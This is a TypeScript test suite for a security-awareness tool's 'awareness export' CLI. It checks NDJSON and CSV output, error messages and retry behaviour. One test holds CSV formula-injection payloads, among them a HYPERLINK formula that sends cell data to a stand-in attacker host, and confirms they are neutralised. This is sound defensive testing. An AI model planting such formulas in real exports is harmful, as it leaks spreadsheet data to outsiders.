// `awareness export`: NDJSON equals the API walk; CSV parses back to the same rows and values.

import assert from 'node:assert/strict'
import { spawn, spawnSync } from 'node:child_process'
import { once } from 'node:events'
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, before, describe, test } from 'node:test'
import { parse } from 'csv-parse/sync'
import { importSources } from '../../src/importer/import.js'
import { EXPORTS } from '../../src/resources/index.js'
import { type TestApp, testApp, walk } from '../helpers/app.js'
import { owned } from '../helpers/children.js'
import { CLI, runCli } from '../helpers/cli.js'
import { type ApiDataset, alteredKey, apiDataset } from '../helpers/dataset.js'
import * as oracle from '../helpers/oracle.js'
import { overloadedProxy } from '../helpers/overloaded-proxy.js'
import { freePort } from '../helpers/processes.js'
import { employee, type Rec, source, workspace } from '../helpers/records.js'
import * as campaigns from '../resources/campaigns/oracle.js'
import { groupMember, group as groupRecord } from '../resources/groups/records.js'
import * as reports from '../resources/reports/oracle.js'

const exportNamed = (name: string) => {
  const found = EXPORTS.find((e) => e.name === name)
  if (!found) throw new Error(`no export ${name}`)
  return found
}

describe('awareness export', () => {
  let t: TestApp
  let d: ApiDataset
  let url: string
  let env: Record<string, string>
  let dir: string
  before(async () => {
    d = apiDataset(30)
    t = await testApp('sqlite', d.all)
    url = await t.listen()
    env = { AWARENESS_API_KEY: await t.key({ organizationId: d.orgA.id as string }) }
    dir = mkdtempSync(join(tmpdir(), 'awareness-export-'))
  })
  after(async () => {
    await t?.close()
    rmSync(dir, { recursive: true, force: true })
  })

  const campaignId = () =>
    d.all.find(
      (r) =>
        r.type === 'campaign' &&
        r.workspace_id === d.a1 &&
        r.delivery === 'recurring' &&
        r.status !== 'draft',
    )?.id as string

  test('NDJSON of every list equals the API walk', async () => {
    const cases: [string[], unknown[]][] = [
      [['employees', '--workspace', d.a1], oracle.employees(d.all, d.a1)],
      [['courses', '--workspace', d.a1], oracle.courses(d.all, d.a1)],
      [['progress', '--workspace', d.a1], oracle.progress(d.all, d.a1)],
      [['breaches', '--workspace', d.a1], oracle.breaches(d.all, d.a1)],
      [
        ['compromised', '--workspace', d.a1, '--breach', d.sharedBreachId],
        oracle.compromised(d.all, d.a1, d.sharedBreachId),
      ],
      [['statistics', '--workspace', d.a1], [oracle.statistics(d.all, d.a1, Date.now())]],
      [['organization'], [oracle.organization(d.all, d.orgA.id as string)]],
      // A path id of another resource than breaches: --campaign.
      [['attacks', '--workspace', d.a1, '--campaign', campaignId()], campaigns.attacks(d.all, campaignId())],
      // The reports, their parameters passed on from options of their own.
      [['breakdown', '--workspace', d.a1, '--by', 'manager'], reports.breakdown(d.all, d.a1, 'manager')],
      [
        ['breakdown', '--workspace', d.a1, '--by', 'group', '--created-after', '2020-01-01'],
        reports.breakdown(d.all, d.a1, 'group', { after: '2020-01-01' }),
      ],
      [
        ['repeat_offenders', '--workspace', d.a1, '--min-tricked', '1'],
        reports.repeatOffenders(d.all, d.a1, 1),
      ],
      [
        ['simulation_coverage', '--workspace', d.a1, '--attacked', 'false'],
        reports.simulationCoverage(d.all, d.a1, false),
      ],
      [
        ['training_coverage', '--workspace', d.a1, '--missed', 'true'],
        reports.trainingCoverage(d.all, d.a1, true),
      ],
    ]
    for (const [args, expected] of cases) {
      const result = await runCli(['export', ...args, '--url', url], { env })
      assert.equal(result.code, 0, result.stderr)
      const lines = result.stdout
        .trim()
        .split('\n')
        .filter(Boolean)
        .map((l) => JSON.parse(l))
      assert.deepEqual(lines, expected, args[0])
    }
  })

  test('the drill-down filters (--department, --country-code, --group, --manager, --manager-tree) write what the API answers, the breakdown included', async () => {
    const manager = d.employeesA1[0]?.id as string
    const { name: department } = (d.employeesA1[1] as Rec).department as { name: string }
    // A group of every other employee, imported now (and kept in the dataset the other tests read).
    const made = groupRecord(d.a1, { name: 'Drilled' })
    const memberships = d.employeesA1
      .filter((_, i) => i % 2 === 0)
      .map((e) => groupMember(made.id as string, e.id as string))
    await importSources(t.db.handle, [source([made, ...memberships])])
    d.all.push(made, ...memberships)
    const group = made.id as string
    const cases: [string[], string][] = [
      [
        ['employees', '--department', department, '--manager-tree', manager],
        `department=${encodeURIComponent(department)}&manager_tree=${manager}`,
      ],
      [
        ['employees', '--manager', manager, '--country-code', 'DE,US'],
        `manager_id=${manager}&country_code=DE,US`,
      ],
      [['employees', '--group', group], `group_id=${group}`],
      [
        ['training_coverage', '--manager-tree', manager, '--missed', 'false'],
        `manager_tree=${manager}&missed=false`,
      ],
      [['simulation_coverage', '--group', group], `group_id=${group}`],
      [
        ['repeat_offenders', '--min-tricked', '1', '--manager', manager],
        `min_tricked=1&manager_id=${manager}`,
      ],
      [
        ['breakdown', '--by', 'manager', '--department', department],
        `by=manager&department=${encodeURIComponent(department)}`,
      ],
      [['breakdown', '--by', 'group', '--manager-tree', manager], `by=group&manager_tree=${manager}`],
    ]
    const path = { employees: '/v1/employees', training_coverage: '/v1/reports/training_coverage' } as Record<
      string,
      string
    >
    let kept = 0
    for (const [args, query] of cases) {
      const result = await runCli(['export', ...args, '--workspace', d.a1, '--url', url], { env })
      assert.equal(result.code, 0, result.stderr)
      const lines = result.stdout
        .trim()
        .split('\n')
        .filter(Boolean)
        .map((l) => JSON.parse(l))
      const route = path[args[0] as string] ?? `/v1/reports/${args[0]}`
      const { items } = await walk(
        t,
        `${route}?workspace_id=${d.a1}&${query}`,
        env.AWARENESS_API_KEY as string,
        100,
        ['headers'],
      )
      assert.deepEqual(lines, items, args.join(' '))
      kept += items.length
    }
    assert.ok(kept > 10, `${kept} rows in all`)
    const other = await runCli(
      ['export', 'courses', '--workspace', d.a1, '--manager', manager, '--url', url],
      { env },
    )
    assert.equal(other.code, 2)
    assert.match(other.stderr, /--manager goes with employees/)
  })

  test('attacks without --campaign: every campaign of the workspace in list order, each attack with its campaign', async () => {
    const expected = campaigns
      .campaigns(d.all, d.a1)
      .flatMap((c) =>
        campaigns.attacks(d.all, c.id as string).map((a) => ({ ...(a as object), campaign: { id: c.id } })),
      )
    assert.ok(new Set(expected.map((a) => a.campaign.id)).size > 1, 'attacks of several campaigns')
    const ndjson = await runCli(['export', 'attacks', '--workspace', d.a1, '--url', url], { env })
    assert.equal(ndjson.code, 0, ndjson.stderr)
    assert.deepEqual(
      ndjson.stdout
        .trim()
        .split('\n')
        .map((l) => JSON.parse(l)),
      expected,
    )
    const out = join(dir, 'every-attack.csv')
    const csv = await runCli(
      ['export', 'attacks', '--workspace', d.a1, '--url', url, '--format', 'csv', '--out', out],
      {
        env,
      },
    )
    assert.equal(csv.code, 0, csv.stderr)
    const parsed = parse(readFileSync(out, 'utf8'), { columns: true }) as Record<string, string>[]
    assert.deepEqual(Object.keys(parsed[0] ?? {}), [...exportNamed('attacks').columns, 'campaign.id'])
    assert.deepEqual(
      parsed.map((r) => [r.id, r['campaign.id']]),
      expected.map((a) => [(a as unknown as { id: string }).id, a.campaign.id]),
    )
  })

  test('CSV parses back with the same rows and values', async () => {
    const cases: [string, string[], unknown[]][] = [
      ['employees', ['--workspace', d.a1], oracle.employees(d.all, d.a1)],
      ['progress', ['--workspace', d.a1], oracle.progress(d.all, d.a1)],
      [
        'compromised',
        ['--workspace', d.a1, '--breach', d.sharedBreachId],
        oracle.compromised(d.all, d.a1, d.sharedBreachId),
      ],
      ['organization', [], [oracle.organization(d.all, d.orgA.id as string)]],
      [
        'breakdown',
        ['--workspace', d.a1, '--by', 'department'],
        reports.breakdown(d.all, d.a1, 'department'),
      ],
      ['repeat_offenders', ['--workspace', d.a1], reports.repeatOffenders(d.all, d.a1)],
      ['simulation_coverage', ['--workspace', d.a1], reports.simulationCoverage(d.all, d.a1)],
      ['training_coverage', ['--workspace', d.a1], reports.trainingCoverage(d.all, d.a1)],
    ]
    for (const [resource, args, items] of cases) {
      const out = join(dir, `${resource}.csv`)
      const result = await runCli(
        ['export', resource, ...args, '--url', url, '--format', 'csv', '--out', out],
        { env },
      )
      assert.equal(result.code, 0, result.stderr)
      const parsed = parse(readFileSync(out, 'utf8'), { columns: true }) as Record<string, string>[]
      const expected = items
        .flatMap((item) => exportNamed(resource).toRows(item as never))
        .map((row: Record<string, unknown>) =>
          Object.fromEntries(Object.entries(row).map(([k, v]) => [k, v === null ? '' : String(v)])),
        )
      assert.equal(parsed.length, expected.length, resource)
      assert.deepEqual(parsed, expected, resource)
      // The summary counts the items read and the rows written, each with its noun in the right number.
      const rows = `${expected.length.toLocaleString('en-US')} CSV ${expected.length === 1 ? 'row' : 'rows'}`
      assert.match(
        result.stderr,
        new RegExp(
          `^exported ${items.length.toLocaleString('en-US')} \\D+ \\(${rows}\\) to ${out.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')} in \\d+\\.\\d s\n$`,
        ),
        resource,
      )
      if (resource === 'progress') assert.match(result.stderr, /employees' progress \(/)
      if (resource === 'organization') assert.match(result.stderr, /^exported 1 organization \(/)
    }
  })

  test('an unreachable --url is one line naming the host and the cause', async () => {
    const closed = await freePort()
    const result = await runCli(
      ['export', 'employees', '--workspace', d.a1, '--url', `http://127.0.0.1:${closed}`],
      { env },
    )
    assert.equal(result.code, 1)
    assert.equal(result.stdout, '')
    assert.match(
      result.stderr,
      new RegExp(
        `^awareness: cannot reach 127\\.0\\.0\\.1:${closed}: connection refused \\(ECONNREFUSED\\) \\(\\d+ attempts?\\)\\n$`,
      ),
    )
  })

  test('a failed export leaves the file it would replace untouched, and no partial file', async () => {
    const keep = join(dir, 'keep.csv')
    writeFileSync(keep, 'yesterday\r\n'.repeat(1145))
    const before = readFileSync(keep)
    for (const [env_, args] of [
      [{ AWARENESS_API_KEY: alteredKey(env.AWARENESS_API_KEY as string) }, ['--workspace', d.a1]],
      [env, ['--workspace', d.b1]],
    ] as const) {
      const result = await runCli(
        ['export', 'employees', ...args, '--url', url, '--format', 'csv', '--out', keep],
        { env: env_ },
      )
      assert.equal(result.code, 1)
      assert.deepEqual(readFileSync(keep), before)
      assert.deepEqual(
        readdirSync(dir).filter((f) => f.includes('keep.csv')),
        ['keep.csv'],
      )
    }
    const done = await runCli(
      ['export', 'employees', '--workspace', d.a1, '--url', url, '--format', 'csv', '--out', keep],
      { env },
    )
    assert.equal(done.code, 0, done.stderr)
    assert.notDeepEqual(readFileSync(keep), before, 'a complete export replaces it')
  })

  test('CSV is RFC 4180 with CRLF, neutralizes formulas, and takes a BOM on request', async () => {
    const ws = workspace(d.orgA.id as string)
    const hostile = [
      '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      '+1+1',
      '-2+3',
      '@SUM(A1)',
      '\tTab',
      '\rReturn',
      'Plain, "quoted"',
    ]
    await importSources(t.db.handle, [
      source([ws, ...hostile.map((name) => employee(ws.id as string, { name }))]),
    ])
    const out = join(dir, 'hostile.csv')
    const result = await runCli(
      [
        'export',
        'employees',
        '--workspace',
        ws.id as string,
        '--url',
        url,
        '--format',
        'csv',
        '--bom',
        '--out',
        out,
      ],
      { env },
    )
    assert.equal(result.code, 0, result.stderr)
    const bytes = readFileSync(out)
    assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf])
    const text = bytes.subarray(3).toString('utf8')
    assert.ok(text.endsWith('\r\n'))
    assert.equal(text.split('\r\n').length - 1, hostile.length + 1, 'one CRLF per record')
    const names = (parse(text, { columns: true }) as Record<string, string>[]).map((r) => r.name).sort()
    assert.deepEqual(names, hostile.map((n) => (/^[=+\-@\t\r]/.test(n) ? `'${n}` : n)).sort())
  })

  test('CSV cells holding a lone CR or LF are quoted: csv-parse and Python read every row back whole', async (t2) => {
    const ws = workspace(d.orgA.id as string)
    const names = ['mid\rdle', 'a\nb', 'c\r\nd', 'end\r', 'end\n', 'quote "and\nline"', 'plain']
    await importSources(t.db.handle, [
      source([ws, ...names.map((name) => employee(ws.id as string, { name, job_title: 'x\ry' }))]),
    ])
    const out = join(dir, 'line-breaks.csv')
    const args = ['export', 'employees', '--workspace', ws.id as string, '--url', url, '--format', 'csv']
    const result = await runCli([...args, '--out', out], { env })
    assert.equal(result.code, 0, result.stderr)
    const text = readFileSync(out, 'utf8')
    const parsed = parse(text, { columns: true }) as Record<string, string>[]
    assert.deepEqual(parsed.map((r) => r.name).sort(), [...names].sort())
    assert.ok(parsed.every((r) => r.job_title === 'x\ry'))
    const python = spawnSync('python3', ['--version'])
    if (python.error) {
      t2.skip('python3 is not installed: the reading by Python csv was not tried')
      return
    }
    // Python's csv module, as a BI script would read the file.
    const read = spawnSync(
      'python3',
      [
        '-c',
        'import csv, json, sys\n' +
          'with open(sys.argv[1], newline="", encoding="utf-8") as f:\n' +
          '    rows = list(csv.DictReader(f))\n' +
          'print(json.dumps([[r["name"], r["job_title"], len(r)] for r in rows]))',
        out,
      ],
      { encoding: 'utf8' },
    )
    assert.equal(read.status, 0, read.stderr)
    const rows = JSON.parse(read.stdout) as [string, string, number][]
    const columns = Object.keys(parsed[0] as object).length
    assert.equal(rows.length, names.length, 'one row per employee')
    assert.deepEqual(rows.map((r) => r[0]).sort(), [...names].sort())
    assert.ok(
      rows.every((r) => r[1] === 'x\ry' && r[2] === columns),
      'no column shifted',
    )
  })

  test('a closed pipe (| head) ends the export quietly with exit 0', async (context) => {
    const ws = workspace(d.orgA.id as string)
    const many = Array.from({ length: 400 }, () => employee(ws.id as string, { job_title: 'x'.repeat(600) }))
    await importSources(t.db.handle, [source([ws, ...many])])
    for (const format of ['ndjson', 'csv']) {
      const child = owned(
        spawn(
          process.execPath,
          [...CLI, 'export', 'employees', '--workspace', ws.id as string, '--url', url, '--format', format],
          { env: { ...process.env, ...env }, stdio: ['ignore', 'pipe', 'pipe'] },
        ),
        context,
      )
      let stderr = ''
      child.stderr.on('data', (c) => (stderr += c))
      // Like `head -2`: read a little, then close the pipe.
      await once(child.stdout, 'data')
      child.stdout.destroy()
      const [code] = (await once(child, 'exit')) as [number]
      assert.equal(code, 0, `${format}: ${stderr}`)
      assert.equal(stderr, '', format)
    }
  })

  test('an --out that cannot be written is one line naming it', async () => {
    const result = await runCli(['export', 'organization', '--url', url, '--out', '/nonexistent/dir/x.csv'], {
      env,
    })
    assert.equal(result.code, 1)
    assert.equal(result.stderr, 'awareness: cannot write /nonexistent/dir/x.csv: no such directory\n')
    assert.equal(result.stdout, '')
  })

  test('an overloaded server (503, Retry-After) is waited for, and the export completes', async () => {
    const proxy = await overloadedProxy(url, 2)
    try {
      const result = await runCli(['export', 'employees', '--workspace', d.a1, '--url', proxy.base], { env })
      assert.equal(result.code, 0, result.stderr)
      assert.equal(proxy.refused(), 2)
      const lines = result.stdout
        .trim()
        .split('\n')
        .map((l) => JSON.parse(l))
      assert.deepEqual(lines, oracle.employees(d.all, d.a1))
    } finally {
      await proxy.close()
    }
  })

  test('the server comes from AWARENESS_API_URL when --url is not given', async () => {
    const result = await runCli(['export', 'organization'], { env: { ...env, AWARENESS_API_URL: url } })
    assert.equal(result.code, 0, result.stderr)
    assert.equal(JSON.parse(result.stdout).id, d.orgA.id)
    // --url wins over the environment.
    const both = await runCli(['export', 'organization', '--url', url], {
      env: { ...env, AWARENESS_API_URL: 'http://127.0.0.1:1' },
    })
    assert.equal(both.code, 0, both.stderr)
  })

  test('failures exit non-zero with one line', async () => {
    const bad = await runCli(['export', 'employees', '--workspace', d.a1, '--url', url], {
      env: { AWARENESS_API_KEY: 'wsa_wrong' },
    })
    assert.equal(bad.code, 1)
    assert.match(bad.stderr, /^awareness: 401 unauthorized: .*\n$/)
    const missing = await runCli(['export', 'employees', '--workspace', d.b1, '--url', url], { env })
    assert.equal(missing.code, 1)
    assert.match(missing.stderr, /^awareness: 404 workspace_not_found: /)
    const invalid = await runCli(['export', 'events', '--workspace', d.a1, '--after', d.a1, '--url', url], {
      env,
    })
    assert.equal(invalid.code, 1)
    assert.match(invalid.stderr, /^awareness: 422 invalid_parameter: /)
    const noKey = await runCli(['export', 'organization', '--url', url], { env: { AWARENESS_API_KEY: '' } })
    assert.equal(noKey.code, 1)
    assert.match(noKey.stderr, /AWARENESS_API_KEY/)
  })
})
